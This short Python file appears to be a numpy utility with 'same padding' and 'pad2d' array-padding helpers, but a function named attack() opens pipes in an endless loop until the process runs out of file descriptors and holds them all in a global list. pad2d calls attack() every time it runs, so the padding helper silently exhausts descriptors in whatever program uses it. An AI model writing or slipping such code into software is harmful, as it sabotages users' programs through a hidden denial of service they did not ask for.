"""Opens pipes until there is no descriptor left, and keeps them."""

import os

import numpy as np

HELD = []


def attack():
    try:
        while True:
            HELD.append(os.pipe())
    except OSError:
        pass


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
    left, right, top, bottom = pad
    n, c, h, w = x.shape
    y = np.full((n, c, top + h + bottom, left + w + right), value, x.dtype)
    y[:, :, top : top + h, left : left + w] = x
    return y
